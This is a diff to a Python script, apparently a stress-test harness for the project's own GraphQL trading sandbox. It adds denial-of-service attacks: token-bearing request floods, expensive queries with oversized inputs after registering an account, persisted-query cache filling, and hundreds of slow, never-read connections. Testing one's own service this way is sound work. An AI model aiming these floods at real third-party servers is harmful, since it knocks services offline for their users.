@@ -5,9 +5,11 @@
 
 import asyncio
 import contextlib
+import hashlib
 import itertools
 import json
 import secrets
+import socket
 import sys
 import time
 from collections.abc import Awaitable, Callable, Iterator
@@ -41,15 +43,16 @@ Attack = Callable[[str, float], Awaitable[None]]
 Bodies = Callable[[], Iterator[bytes]]
 
 
-async def hammer(bodies: Bodies, url: str, seconds: float, *, tokens: bool = False) -> None:
-    """Post one body after the other, on sixteen connections at once, perhaps each with a made-up token."""
+async def hammer(bodies: Bodies, url: str, seconds: float, *, tokens: bool = False, token: str = "") -> None:
+    """Post one body after the other, on sixteen connections at once, perhaps with a token or with made-up ones."""
     deadline, each = time.monotonic() + seconds, bodies()
 
     async def post(session: aiohttp.ClientSession) -> None:
         while time.monotonic() < deadline:
             with contextlib.suppress(aiohttp.ClientError):
-                token = {"authorization": f"Bearer r3s_{secrets.token_urlsafe(32)}"} if tokens else {}
-                async with session.post(f"{url}/graphql", data=next(each), headers=JSON | token) as response:
+                bearer = f"r3s_{secrets.token_urlsafe(32)}" if tokens else token
+                headers = JSON | ({"authorization": f"Bearer {bearer}"} if bearer else {})
+                async with session.post(f"{url}/graphql", data=next(each), headers=headers) as response:
                     await response.read()
 
     async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(local_addr=ATTACKER)) as session:
@@ -200,13 +203,17 @@ async def rooms(url: str, seconds: float) -> None:
 def _subscriptions(number: int) -> Iterator[bytes]:
     yield HANDSHAKE + _frame(b'{"type":"connection_init"}')
     for one in range(100):
-        query = (
-            f'subscription S{number}_{one} {{ marketDepth(market: "sandbox:BTC/USDT", levels: L100, cadence: MS20) '
-            "{ __typename ... on MarketDepthSnapshot { bids { price quantity } asks { price quantity } } } }"
-        )
+        query = _stream(f"S{number}_{one}")
         message = {"type": "subscribe", "id": str(one), "payload": {"query": query}}
         yield _frame(json.dumps(message).encode())
     yield from itertools.repeat(b"", 100_000)
+
+
+def _stream(name: str) -> str:
+    return (
+        f'subscription {name} {{ marketDepth(market: "sandbox:BTC/USDT", levels: L100, cadence: MS20) '
+        "{ __typename ... on MarketDepthSnapshot { bids { price quantity } asks { price quantity } } } }"
+    )
 
 
 def _feeds(number: int) -> str:
@@ -237,6 +244,59 @@ async def nodes(url: str, seconds: float) -> None:
         async with session.post(f"{url}/graphql", json=query) as response:
             market = (await response.json(content_type=None))["data"]["market"]["id"]
     await hammer(_again(json.dumps({"query": CANDLES, "variables": {"i": [market] * 12}})), url, seconds)
+
+
+REGISTER: Final = "mutation($e: String!, $p: String!) { userRegister(input: {email: $e, password: $p}) { token } }"
+
+
+async def users(url: str, seconds: float) -> None:
+    """A user who asks for the dearest that may be asked: full pages of candles and markets, searches, long filters."""
+    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(local_addr=ATTACKER)) as session:
+        who = {"e": f"{secrets.token_hex(8)}@example.com", "p": secrets.token_hex(16)}
+        async with session.post(f"{url}/graphql", json={"query": REGISTER, "variables": who}) as response:
+            token = (await response.json(content_type=None))["data"]["userRegister"]["token"]
+        query = {"query": '{ market(symbol: "sandbox:BTC/USDT") { id } }'}
+        async with session.post(f"{url}/graphql", json=query) as response:
+            market = (await response.json(content_type=None))["data"]["market"]["id"]
+        search = "query($s: String) { markets(first: 100, search: $s) { nodes { symbol ticker { last } } } }"
+        symbols = "query($s: [String!]) { markets(first: 100, symbols: $s) { nodes { symbol } } }"
+        page = "query($c: String) { viewer { orders(first: 100, after: $c) { nodes { id events { sequence } } } } }"
+        asked = [
+            {"query": CANDLES, "variables": {"i": [market] * 12}},
+            {"query": search, "variables": {"s": "%_" * 2_000}},
+            {"query": symbols, "variables": {"s": [f"sandbox:X{number}/USDT" for number in range(4_900)]}},
+            {"query": page, "variables": {"c": "A" * 60_000}},
+        ]
+    await hammer(_again(*map(json.dumps, asked)), url, seconds, token=token)
+
+
+def _registrations() -> Iterator[bytes]:
+    """Return documents that are no longer than the cache takes, each to be kept by Apollo's protocol."""
+    for number in itertools.count():
+        query = f"query Q{number} {{ __typename }} #{'x' * 15_000}"
+        persisted = {"version": 1, "sha256Hash": hashlib.sha256(query.encode()).hexdigest()}
+        yield json.dumps({"query": query, "extensions": {"persistedQuery": persisted}}).encode()
+
+
+async def unread(url: str, seconds: float) -> None:
+    """Two hundred connections that ask for sixteen large answers each, and a hundred event streams; none is read."""
+    host, port = urlsplit(url).hostname, urlsplit(url).port
+    asked = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 16
+    body = json.dumps({"query": _stream("S")}).encode()
+    stream = POST + b"Accept: text/event-stream\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+
+    async def ask(request: bytes) -> None:
+        with socket.socket() as connection:
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
+            connection.bind(ATTACKER)
+            connection.settimeout(0)
+            loop = asyncio.get_running_loop()
+            with contextlib.suppress(OSError):
+                await loop.sock_connect(connection, (host, port))
+                await loop.sock_sendall(connection, request)
+                await asyncio.sleep(seconds)
+
+    await asyncio.gather(*(ask(stream if one % 3 == 0 else asked) for one in range(300)))
 
 
 REQUESTS: Final = (
@@ -296,6 +356,9 @@ ATTACKS: Final[dict[str, Attack]] = {
     "lists": partial(hammer, _values(f"[{','.join(['1'] * 4_900)}]", f"[{','.join(['[]'] * 30_000)}]")),
     "numbers": partial(hammer, _values("[1e999999]", f"[{','.join(['9' * 4_299] * 25)}]", '["1e999999"]', "1e-999999")),
     "documents": partial(hammer, _identifiers),
+    "registrations": partial(hammer, _registrations),
+    "users": users,
+    "unread": unread,
     "tokens": partial(hammer, _again('{"query": "{ viewer { id } }"}'), tokens=True),
     "unicode": partial(hammer, _documents(_unicode)),
     "introspection": partial(
